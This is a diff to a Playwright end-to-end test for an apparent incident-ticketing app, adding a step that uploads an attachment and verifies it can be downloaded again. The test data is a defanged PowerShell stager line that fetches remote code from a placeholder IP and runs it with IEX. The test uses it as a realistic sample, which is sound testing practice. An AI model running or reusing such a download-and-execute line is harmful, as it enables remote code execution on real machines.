@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import hashlib
 import re
+from pathlib import Path
 
 import pytest
 from playwright.sync_api import expect
@@ -47,8 +49,19 @@ def test_journey_from_login_to_resolution(page, live_server, cast, screenshots):
 
     # Internal note, visibly distinct.
     page.get_by_label("Message").fill("Macro drops a PowerShell stager; hash blocked on EDR.")
+    stager = b"IEX (New-Object Net.WebClient).DownloadString('hxxp://203.0.113.9/a')\n"
+    page.get_by_label("Attachments").set_input_files(
+        files=[{"name": "stager.ps1", "mimeType": "text/plain", "buffer": stager}]
+    )
     page.get_by_role("button", name="Add internal note").click()
-    expect(page.locator(".entry.note").last).to_contain_text("PowerShell stager")
+    note = page.locator(".entry.note").last
+    expect(note).to_contain_text("PowerShell stager")
+    expect(note).to_contain_text(hashlib.sha256(stager).hexdigest())
+    with page.expect_download() as download_info:
+        note.get_by_role("link", name="stager.ps1").click()
+    download = download_info.value
+    assert download.suggested_filename == "stager.ps1"
+    assert Path(download.path()).read_bytes() == stager
 
     # Assign to bob.
     page.get_by_label("Assignee").select_option(label="Bob")
